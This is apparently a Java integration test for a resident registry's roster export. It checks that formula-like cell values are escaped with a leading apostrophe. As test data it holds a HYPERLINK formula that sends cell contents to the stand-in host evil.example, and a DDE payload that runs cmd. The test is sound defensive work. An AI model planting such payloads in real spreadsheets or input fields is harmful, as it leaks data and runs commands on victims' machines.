package org.fangxian.registry;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.fangxian.IntegrationTest;
import org.fangxian.TestData;
import org.fangxian.TestIdNumbers;
import org.fangxian.registry.internal.RosterExport;
import org.fangxian.security.CurrentUser;
import org.fangxian.security.Role;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A resident named like a formula comes out of the roster export as plain text (a leading
 * apostrophe), so opening the export never runs it; numbers elsewhere stay numbers.
 */
class ExportFormulaInjectionTest extends IntegrationTest {

	static final String EVIL = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我\")";

	@Autowired
	ResidentService residents;

	@Autowired
	RosterExport export;

	@Test
	void theRosterExportNeutralisesFormulaLikeCells() throws Exception {
		TestData.Tree tree = this.data.tree();
		CurrentUser worker = this.data.user(Role.COMMUNITY_WORKER, tree.communityA1());
		String id = TestIdNumbers.next();
		this.residents.create(worker, new ResidentService.ResidentForm(EVIL, null, id, "13900000000",
				tree.communityA1().id(), "101", "户主", null, "常住", "@SUM(1+1)*cmd|' /C calc'!A0"));

		ByteArrayOutputStream out = new ByteArrayOutputStream();
		Node node = this.export.authorize(worker, tree.communityA1().id(), false);
		this.export.write(worker, node, false, Locale.SIMPLIFIED_CHINESE, out);

		List<String> cells = new ArrayList<>();
		try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
			try (var rows = book.getFirstSheet().openStream()) {
				rows.skip(1)
					.forEach((Row row) -> row.forEach(cell -> cells.add(cell == null ? null : cell.getRawValue())));
			}
		}
		assertThat(cells).contains("'" + EVIL, "'@SUM(1+1)*cmd|' /C calc'!A0").doesNotContain(EVIL);
		assertThat(cells).allSatisfy(text -> {
			if (text != null && !text.isEmpty()) {
				assertThat(text.charAt(0)).as(text).isNotIn('=', '+', '-', '@');
			}
		});
	}

}
